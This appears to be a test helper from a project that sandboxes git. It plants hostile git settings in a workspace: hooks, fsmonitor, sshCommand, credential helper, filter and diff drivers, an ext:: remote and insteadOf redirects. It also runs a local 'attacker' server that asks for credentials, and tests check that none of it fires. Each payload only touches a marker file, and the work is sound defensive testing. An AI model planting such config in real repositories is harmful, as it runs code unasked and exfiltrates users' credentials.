import fs from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { git } from "../support/gitRepo";

/**
 * What a hostile run can write: everything in its workspace, its `.git` included. Each
 * planted setting, when git honours it, runs a command that leaves a marker file named after
 * it in `markers`, or sends git to `attackerUrl`. A test then asserts `markers` stays empty
 * and the attacker saw nothing.
 */
export async function poisonWorkspace(opts: {
  workspace: string;
  markers: string;
  attackerUrl: string;
  /** The registered remote's URL, which the planted config tries to redirect. */
  remoteUrl: string;
}): Promise<void> {
  const { workspace, markers, attackerUrl, remoteUrl } = opts;
  const gitDir = path.join(workspace, ".git");
  const touch = (name: string) => `touch ${path.join(markers, name)}`;
  const script = async (file: string, name: string) => {
    await fs.mkdir(path.dirname(file), { recursive: true });
    await fs.writeFile(file, `#!/bin/sh\n${touch(name)}\nexit 0\n`, { mode: 0o755 });
    return file;
  };
  const hooksDir = path.join(workspace, ".hooks");
  for (const hook of ["pre-commit", "commit-msg", "post-commit", "reference-transaction", "pre-push", "post-checkout", "pre-auto-gc", "post-index-change"]) {
    await script(path.join(gitDir, "hooks", hook), `hook-${hook}`);
    await script(path.join(hooksDir, hook), `hooksPath-${hook}`);
  }
  // Filters and text conversion read the file on stdin and print it; ";" would start a comment in a config value.
  const filter = async (name: string) => {
    const file = path.join(workspace, ".tools", name);
    await fs.mkdir(path.dirname(file), { recursive: true });
    await fs.writeFile(file, `#!/bin/sh\n${touch(name)}\ncat\n`, { mode: 0o755 });
    return file;
  };
  const fsmonitor = await script(path.join(workspace, ".tools", "fsmonitor"), "fsmonitor");
  const askpass = await script(path.join(workspace, ".tools", "askpass"), "askpass");
  const included = path.join(workspace, ".tools", "included.config");
  await fs.writeFile(
    included,
    `[filter "inc"]\n\tclean = ${await filter("include-clean")}\n[core]\n\tfsmonitor = ${fsmonitor}\n[url "${attackerUrl}/"]\n\tinsteadOf = ${remoteUrl}\n`,
  );
  const config = `
[core]
\tfsmonitor = ${fsmonitor}
\thooksPath = ${hooksDir}
\tsshCommand = sh -c '${touch("sshCommand")}'
\tgitProxy = sh -c '${touch("gitProxy")}'
\taskPass = ${askpass}
\tattributesFile = ${path.join(workspace, ".tools", "attributes")}
\tpager = sh -c '${touch("pager")}'
\teditor = sh -c '${touch("editor")}'
[url "${attackerUrl}/"]
\tinsteadOf = ${remoteUrl}
\tpushInsteadOf = ${remoteUrl}
[remote "origin"]
\turl = ext::sh -c ${touch("ext-remote").replace(/ /g, "% ")}
\tpushurl = ${attackerUrl}/pushed.git
[protocol]
\tallow = always
[protocol "ext"]
\tallow = always
[filter "pwn"]
\tclean = ${await filter("filter-clean")}
\tsmudge = ${await filter("filter-smudge")}
\trequired = true
[diff "pwn"]
\ttextconv = ${await filter("textconv")}
\tcommand = sh -c '${touch("diff-driver")}'
[diff]
\texternal = sh -c '${touch("diff-external")}'
[merge "pwn"]
\tdriver = sh -c '${touch("merge-driver")}'
[credential]
\thelper = !sh -c '${touch("credential-helper")}'
[gpg]
\tprogram = sh -c '${touch("gpg")}'
[commit]
\tgpgSign = true
[gc]
\tauto = 1
[include]
\tpath = ${included}
[includeIf "gitdir:/"]
\tpath = ${included}
`;
  await fs.appendFile(path.join(gitDir, "config"), config);
  // A repository nested in the workspace (git adds it as a gitlink), with the same config.
  const nested = path.join(workspace, "vendor", "lib");
  await fs.mkdir(nested, { recursive: true });
  await fs.writeFile(path.join(nested, "lib.txt"), "lib\n");
  await git(nested, "init", "--quiet");
  await git(nested, "add", "lib.txt");
  await git(nested, "commit", "--quiet", "-m", "nested");
  await fs.appendFile(path.join(nested, ".git", "config"), config);
  await fs.writeFile(path.join(nested, ".gitattributes"), "* filter=pwn diff=pwn\n");
  await fs.writeFile(path.join(workspace, ".tools", "attributes"), "* filter=pwn diff=pwn\n");
  await fs.writeFile(path.join(workspace, ".gitattributes"), "* filter=pwn diff=pwn merge=pwn\n*.txt filter=inc\n");
  await fs.mkdir(path.join(gitDir, "info"), { recursive: true });
  await fs.writeFile(path.join(gitDir, "info", "attributes"), "* filter=pwn diff=pwn\n");
}

/** An HTTP server that records every request and asks for credentials, as a thief would. */
export type Attacker = {
  url: string;
  requests: { method: string; url: string; authorization?: string }[];
  close(): Promise<void>;
};

export async function startAttacker(): Promise<Attacker> {
  const requests: Attacker["requests"] = [];
  const server = http.createServer((req, res) => {
    requests.push({ method: req.method ?? "", url: req.url ?? "", authorization: req.headers.authorization });
    if (!req.headers.authorization) res.writeHead(401, { "www-authenticate": 'Basic realm="steal"' }).end();
    else res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * A remote that sends requests elsewhere (a moved repository, or a hostile one): every request,
 * or with `afterAuth` only those that came with credentials (the first one gets a 401).
 */
export async function startRedirector(target: string, opts: { afterAuth?: boolean } = {}): Promise<{ url: string; close(): Promise<void> }> {
  const server = http.createServer((req, res) => {
    if (opts.afterAuth && !req.headers.authorization) {
      res.writeHead(401, { "www-authenticate": 'Basic realm="remote"' }).end();
      return;
    }
    res.writeHead(302, { location: `${target}${req.url ?? "/"}` }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** What a run could have changed in a platform repository: config, hooks, info/, refs. */
export async function repoSnapshot(gitDir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const name of ["config", "HEAD", "packed-refs", "objects/info/alternates"]) {
    out[name] = await fs.readFile(path.join(gitDir, name), "utf8").catch(() => "(none)");
  }
  for (const dir of ["hooks", "info", "refs"]) {
    const files = await fs.readdir(path.join(gitDir, dir), { recursive: true }).catch(() => [] as string[]);
    for (const file of files.sort()) {
      const full = path.join(gitDir, dir, file);
      if ((await fs.stat(full)).isFile()) out[`${dir}/${file}`] = await fs.readFile(full, "utf8");
    }
  }
  return out;
}
